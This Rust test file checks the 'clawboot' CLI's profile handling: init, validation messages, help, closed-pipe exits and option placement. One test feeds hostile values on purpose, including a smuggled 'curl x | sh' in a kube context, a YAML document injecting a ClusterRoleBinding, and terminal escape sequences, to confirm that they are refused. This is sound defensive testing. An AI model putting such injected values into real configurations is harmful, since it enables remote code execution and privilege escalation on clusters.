//! The answers file from the command line: init writes one that loads, bad input is refused
//! with the key's path and what is allowed, before anything is written.

use std::fs;

use crate::common::*;

#[test]
fn init_writes_a_commented_profile_that_loads_and_renders_the_same() {
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("clawboot.yaml");
    let path = file.display().to_string();
    let init = clawboot(&["profile", "init", &path]);
    assert!(init.status.success(), "{}", text(&init.stderr));
    let written = fs::read_to_string(&file).unwrap();
    assert!(written.contains("# Never put a secret here"));

    let again = clawboot(&["profile", "init", &path]);
    assert_eq!(again.status.code(), Some(2));
    assert!(text(&again.stderr).contains("--force"));

    let shown = clawboot(&["--profile", &path, "profile", "show", "--output", "json"]);
    let embedded = clawboot(&["profile", "show", "--output", "json"]);
    assert!(shown.status.success());
    assert_eq!(shown.stdout, embedded.stdout);
}

#[test]
fn bad_answers_are_refused_before_anything_is_written() {
    let dir = tempfile::tempdir().unwrap();
    let answers = dir.path().join("answers.yaml");
    fs::write(
        &answers,
        "openclaw:\n  sandbox:\n    mode: always\n  discord_allow_from: [alice]\n  relase: \"2026.9.6\"\nresources:\n  litellm:\n    limits: {memory: 512Mi}\naws:\n  account_id: 123456789012\n",
    )
    .unwrap();
    let out = dir.path().join("out");
    let output = clawboot(&[
        "--profile",
        &answers.display().to_string(),
        "render",
        "--out",
        &out.display().to_string(),
    ]);
    assert_eq!(output.status.code(), Some(2));
    let stderr = text(&output.stderr);
    for expected in [
        "openclaw.sandbox.mode: \"always\" is not allowed; allowed: off, non-main, all",
        "openclaw.discord_allow_from[0]: must be a Discord user id",
        "resources.litellm.limits.memory: must be at least 1Gi",
        "openclaw.relase: unknown field `relase`; did you mean `release`?",
        "aws.account_id: must be a string, not a number (quote it in YAML)",
    ] {
        assert!(
            stderr.contains(expected),
            "missing {expected:?} in:\n{stderr}"
        );
    }
    assert!(!out.exists(), "render wrote files from a bad profile");

    fs::write(&answers, "cluster:\n  namespcae: claw\n").unwrap();
    let output = clawboot(&[
        "--profile",
        &answers.display().to_string(),
        "profile",
        "show",
    ]);
    assert_eq!(output.status.code(), Some(2));
    let stderr = text(&output.stderr);
    assert!(
        stderr.contains("cluster.namespcae: unknown field `namespcae`; did you mean `namespace`?"),
        "{stderr}"
    );
}

/// A value that would add a YAML document (a ClusterRoleBinding the wizard then offers to
/// apply), an escape sequence in an image, a shell command in the kube context: each refused by
/// name before anything is written, and no control character reaches the terminal.
#[test]
fn hostile_profile_values_are_refused_and_never_printed_raw() {
    let dir = tempfile::tempdir().unwrap();
    let answers = dir.path().join("answers.yaml");
    let injected = "repos:\n  gitops:\n    folder: \"apps\\n---\\napiVersion: rbac.authorization.k8s.io/v1\\nkind: ClusterRoleBinding\"\n    url: \"https://example.com\"\nimages:\n  litellm: \"evil\\e[2J\\e]0;pwned\\a:1\"\ncluster:\n  kube_context: \"prod; curl x | sh; #\"\n  \"bad\\e[31mkey\": 1\naws:\n  region: \"us-east-1\\n\"\n";
    fs::write(&answers, injected).unwrap();
    let out = dir.path().join("out");
    let output = clawboot(&[
        "--profile",
        &answers.display().to_string(),
        "render",
        "--out",
        &out.display().to_string(),
    ]);
    assert_eq!(output.status.code(), Some(2));
    let stderr = text(&output.stderr);
    for expected in [
        "repos.gitops.folder: must not hold control characters",
        "images.litellm: must not hold control characters",
        "aws.region: must not hold control characters",
        "cluster.kube_context: must be empty (kubectl's current context) or a context name",
        "repos.gitops.url: must be the repository's URL",
        "cluster.bad\\u{1b}[31mkey: unknown field `bad\\u{1b}[31mkey`",
    ] {
        assert!(
            stderr.contains(expected),
            "missing {expected:?} in:\n{stderr}"
        );
    }
    assert!(
        !stderr.chars().any(|c| c.is_control() && c != '\n'),
        "a control character reached the terminal: {stderr:?}"
    );
    assert!(!out.exists(), "render wrote files from a hostile profile");
}

#[test]
fn every_command_has_help_and_the_binary_a_version() {
    for args in [
        vec!["--help"],
        vec!["render", "--help"],
        vec!["doctor", "--help"],
        vec!["profile", "--help"],
        vec!["profile", "init", "--help"],
        vec!["--version"],
    ] {
        let output = clawboot(&args);
        assert!(output.status.success(), "{args:?}");
        assert!(!output.stdout.is_empty());
    }
}

/// Output into a pipe whose reader is gone (`clawboot render | head -c 50`) ends quietly with
/// the code a shell gives SIGPIPE, never with a panic or an error message.
#[test]
fn a_closed_pipe_ends_quietly() {
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("out").display().to_string();
    for args in [
        vec!["render", "--out", out.as_str()],
        vec!["profile", "show"],
    ] {
        let (reader, writer) = std::io::pipe().unwrap();
        drop(reader);
        let output = std::process::Command::new(env!("CARGO_BIN_EXE_clawboot"))
            .args(&args)
            .stdout(writer)
            .output()
            .unwrap();
        assert_eq!(output.status.code(), Some(141), "{args:?}");
        assert_eq!(text(&output.stderr), "", "{args:?}");
    }
}

/// The wizard's options are taken before its task as after it (`clawboot --issuer X status`),
/// refused before another command with what to do, and named by their value in `--help`.
#[test]
fn the_wizards_options_go_before_or_after_its_tasks() {
    let home = tempfile::tempdir().unwrap();
    let status = |args: &[&str]| {
        std::process::Command::new(env!("CARGO_BIN_EXE_clawboot"))
            .args(args)
            .env("HOME", home.path())
            .env("KUBECONFIG", home.path().join("none"))
            .env("AWS_ACCESS_KEY_ID", "test")
            .env("AWS_SECRET_ACCESS_KEY", "test")
            .output()
            .unwrap()
    };
    let before = status(&[
        "--region",
        "eu-west-1",
        "--endpoint-url",
        "http://127.0.0.1:9",
        "status",
        "--output",
        "json",
    ]);
    let report: serde_json::Value = serde_json::from_slice(&before.stdout)
        .unwrap_or_else(|e| panic!("{e}: {}", text(&before.stderr)));
    let preflight = report["waves"][0]["lines"].to_string();
    assert!(
        preflight.contains("eu-west-1"),
        "the region given before the task is used: {preflight}"
    );

    let refused = clawboot(&["--plain", "render", "--check"]);
    assert_eq!(refused.status.code(), Some(2));
    assert!(text(&refused.stderr).contains("those options are the wizard's"));

    let help = clawboot(&["--help"]);
    assert!(
        text(&help.stdout).contains("--region <REGION>"),
        "{}",
        text(&help.stdout)
    );
}
